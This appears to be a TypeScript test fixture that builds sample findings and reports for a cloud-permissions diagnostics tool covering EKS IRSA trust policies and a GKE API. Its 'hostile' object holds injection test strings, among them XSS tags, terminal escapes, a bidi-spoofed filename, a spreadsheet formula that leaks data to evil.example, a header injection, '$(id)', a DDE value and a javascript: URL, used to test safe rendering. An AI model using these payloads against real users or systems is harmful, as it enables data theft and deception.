/** A report with every feature that a rendering must show, and every trick that strangers may play on it. */
import type { Finding, Report } from '../../shared/report.ts';
import { sh, withDocument } from '../../shared/shell.ts';

const account = '111122223333';
const issuer = 'oidc.eks.eu-west-1.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE';

export const repairedPolicy = {
  Version: '2012-10-17',
  Statement: [
    {
      Effect: 'Allow',
      Principal: { Federated: `arn:aws:iam::${account}:oidc-provider/${issuer}` },
      Action: 'sts:AssumeRoleWithWebIdentity',
      Condition: {
        StringEquals: {
          [`${issuer}:sub`]: 'system:serviceaccount:shop:cart',
          [`${issuer}:aud`]: 'sts.amazonaws.com',
        },
      },
    },
  ],
};

/** A finding with a proven fix; every other one of the sample is made from it. */
export function sampleFinding(changes: Partial<Finding> = {}): Finding {
  return {
    id: '1f0c2a9b7e5d4c31',
    rule: 'eks/irsa-trust-subject',
    severity: 'high',
    change: 'new',
    cloud: 'aws',
    account,
    location: 'eu-west-1',
    cluster: 'prod',
    subject: { kind: 'role', name: 'cart', id: `arn:aws:iam::${account}:role/cart` },
    workload: { namespace: 'shop', serviceAccount: 'cart' },
    title: 'The trust policy does not name this service account',
    cause:
      'The trust policy of role cart allows system:serviceaccount:shop:card, and the caller is system:serviceaccount:shop:cart: the names differ in the last letter.',
    alsoWrong: ['eks/irsa-trust-audience'],
    evidence: [
      { label: 'Trust policy allows', value: 'system:serviceaccount:shop:card' },
      { label: 'The caller is', value: 'system:serviceaccount:shop:cart' },
      { label: 'Service accounts named "card" in the cluster', value: 'none' },
    ],
    denial: {
      errorCode: 'AccessDenied',
      events: 1342,
      firstSeen: '2026-01-01T06:12:44Z',
      lastSeen: '2026-01-02T05:58:03Z',
      sampleEventIds: ['5f1c1f0e-6f2a-4a57-9b59-0b1d3d0b8a11', '0c0b9c2e-0f5d-4f0e-8a37-6b6c2c3f9d42'],
    },
    fix: {
      summary: 'Allow the service account that the cluster has instead of the misspelt one.',
      commands: [
        withDocument(
          sh`aws iam update-assume-role-policy --role-name cart --policy-document file:///dev/stdin`,
          repairedPolicy,
        ),
      ],
      policy: repairedPolicy,
      verified: true,
    },
    references: ['https://docs.aws.amazon.com/eks/latest/userguide/associate-service-account-role.html'],
    ...changes,
  };
}

/** Markup, terminal codes, a bidirectional override, formulas, line breaks, quotes and endless text. */
export const hostile = {
  markup: `<script>alert('x')</script><img src=x onerror="alert(1)">&amp;`,
  terminal: '\u001b[2J\u001b]0;owned\u0007\u009b31mred\u007f',
  bidi: 'invoice\u202Efdp.exe\u2066\u200Fzero\u200Bwidth',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  lines: 'first\r\nBcc: victim@example.com\n\nsecond',
  quotes: `it's "quoted" \`$(id)\` \\ done`,
  long: 'x'.repeat(50_000),
  wide: '本番環境のクラスタでアクセスが拒否されました。担当者は信頼ポリシーを確認してください。',
};

const hostileFinding = sampleFinding({
  id: 'ffffffffffffffff',
  rule: 'eks/irsa-denied-outside-trust',
  severity: 'medium',
  change: 'changed',
  cluster: hostile.bidi,
  subject: { kind: 'role', name: hostile.lines, id: hostile.markup },
  workload: { namespace: hostile.formula, serviceAccount: hostile.quotes },
  title: `A denial whose texts were written by strangers ${hostile.markup}`,
  cause: `${hostile.terminal} ${hostile.bidi} ${hostile.wide}`,
  alsoWrong: [],
  evidence: [
    { label: hostile.formula, value: hostile.long },
    { label: '@SUM(1)', value: hostile.quotes },
    { label: 'several lines', value: '{\n  "sub": "a\u202Eb"\n}' },
  ],
  denial: {
    errorCode: '+1+cmd|calc',
    events: 1,
    firstSeen: 'no time at all\u001b[31m',
    lastSeen: '2026-01-01T07:00:00.123Z',
    sampleEventIds: [],
  },
  fix: {
    summary:
      'Advice: ask the account that owns the organization whether a policy of its own denies the call.',
    commands: [],
    verified: false,
  },
  references: ['javascript:alert(1)', 'https://example.com/?a=1&b="><script>'],
});

const latent = sampleFinding({
  id: 'aaaabbbbccccdddd',
  rule: 'eks/irsa-provider-missing',
  severity: 'critical',
  title: 'The cluster has no OIDC provider in the account of its roles',
  cause: `The issuer of cluster staging is ${issuer}, and account ${account} has no provider of that address; 3 roles trust it.`,
  cluster: 'staging',
  location: 'eu-central-1',
  subject: { kind: 'cluster', name: 'staging', id: `arn:aws:eks:eu-central-1:${account}:cluster/staging` },
  workload: null,
  alsoWrong: [],
  evidence: [{ label: 'Roles that trust the issuer', value: 'billing, cart-staging, mailer' }],
  denial: null,
  fix: {
    summary: 'Register the issuer as a provider.',
    commands: [
      sh`aws iam create-open-id-connect-provider --url ${`https://${issuer}`} --client-id-list sts.amazonaws.com`,
    ],
    verified: true,
  },
});

const withoutCluster = sampleFinding({
  id: '0123456789abcdef',
  rule: 'eks/irsa-trust-too-broad',
  severity: 'low',
  change: 'open',
  location: null,
  cluster: null,
  title: 'A role may be assumed by every service account',
  cause: 'The trust policy of role reports has no condition on the subject.',
  subject: { kind: 'role', name: 'reports', id: `arn:aws:iam::${account}:role/reports` },
  workload: null,
  alsoWrong: [],
  evidence: [],
  denial: null,
  fix: {
    summary: 'Advice: name the service account that uses it.',
    commands: [],
    policy: { Version: '2012-10-17', Statement: [{ Sid: 'A\u202EB', Effect: 'Allow' }] },
    verified: false,
  },
  references: [],
});

const googleFinding = sampleFinding({
  id: '99998888777766ff',
  rule: 'gke/api-disabled',
  severity: 'critical',
  change: 'open',
  cloud: 'gcp',
  account: 'shop-prod-4711',
  location: 'europe-west1',
  cluster: 'web',
  subject: { kind: 'project', name: 'shop-prod-4711', id: 'shop-prod-4711' },
  workload: null,
  title: 'An API that GKE needs is turned off',
  cause: 'container.googleapis.com is disabled in project shop-prod-4711.',
  alsoWrong: [],
  evidence: [{ label: 'State', value: 'DISABLED' }],
  denial: null,
  fix: {
    summary: 'Turn it on again.',
    commands: [sh`gcloud services enable container.googleapis.com --project ${'shop-prod-4711'}`],
    verified: false,
  },
});

const findings = [
  latent,
  googleFinding,
  sampleFinding(),
  hostileFinding,
  withoutCluster,
  sampleFinding({ id: 'dddd', change: 'resolved', title: 'The audience did not match' }),
  sampleFinding({
    id: 'eeee',
    change: 'muted',
    severity: 'info',
    title: 'A role trusts a cluster that is gone',
  }),
];

const window = { from: '2026-01-01T06:00:00Z', to: '2026-01-02T06:00:00Z' };
const aws = { cloud: 'aws', account } as const;
const denied = {
  why: `eks:ListClusters was denied to arn:aws:sts::${account}:assumed-role/auditor/run; grant it`,
  missingPermission: 'eks:ListClusters',
};

export const sampleReport: Report = {
  schemaVersion: 1,
  tool: { name: 'clusterwhy', version: '1.0.0' },
  runId: '20260102T060000Z-4f1d',
  startedAt: '2026-01-02T06:00:00Z',
  finishedAt: '2026-01-02T06:01:12Z',
  window,
  scope: [
    { ...aws, regions: ['eu-west-1', 'eu-central-1', 'us-east-1'] },
    { cloud: 'gcp', account: 'shop-prod-4711' },
  ],
  summary: {
    bySeverity: { critical: 2, high: 1, medium: 1, low: 1, info: 0 },
    clusters: 3,
    denialEvents: 1343,
    denials: 2,
  },
  findings,
  outcomes: [
    { rule: 'eks/irsa-trust-subject', ...aws, status: 'fail', why: null },
    { rule: 'eks/irsa-trust-wildcard', ...aws, status: 'pass', why: null },
    {
      rule: 'eks/irsa-stale-pod',
      ...aws,
      status: 'unknown',
      why: 'serviceAccounts could not be read: no token',
    },
    {
      rule: 'eks/pod-on-node-role',
      ...aws,
      status: 'unknown',
      why: 'serviceAccounts could not be read: no token',
    },
    {
      rule: 'eks/irsa-token-rejected',
      ...aws,
      status: 'broken',
      why: `the rule failed: TypeError: Cannot read <b>x</b>${hostile.terminal}`,
    },
  ],
  coverage: [
    { ...aws, location: null, fact: 'roles', complete: true, ...window, why: null },
    { ...aws, location: null, fact: 'oidcProviders', complete: true, ...window, why: null },
    { ...aws, location: 'us-east-1', fact: 'clusters', complete: false, ...window, ...denied },
    { ...aws, location: 'us-east-2', fact: 'clusters', complete: false, ...window, ...denied },
    {
      ...aws,
      location: 'eu-west-1',
      fact: 'denials',
      complete: false,
      from: window.from,
      to: '2026-01-01T09:30:00Z',
      why: 'the time for reading was used up; ask for a shorter window',
    },
    { cloud: 'gcp', account: 'shop-prod-4711', location: null, fact: 'services', complete: true, why: null },
  ],
};

/** A report of a run that found nothing and saw no refused call. */
export const quietReport: Report = {
  ...sampleReport,
  summary: {
    bySeverity: { critical: 0, high: 0, medium: 0, low: 0, info: 0 },
    clusters: 3,
    denialEvents: 0,
    denials: 0,
  },
  findings: [],
  outcomes: [{ rule: 'eks/irsa-trust-subject', ...aws, status: 'pass', why: null }],
  coverage: ['roles', 'denials'].map((fact) => ({
    ...{ ...aws, location: null, fact, complete: true, why: null },
    ...window,
  })),
};
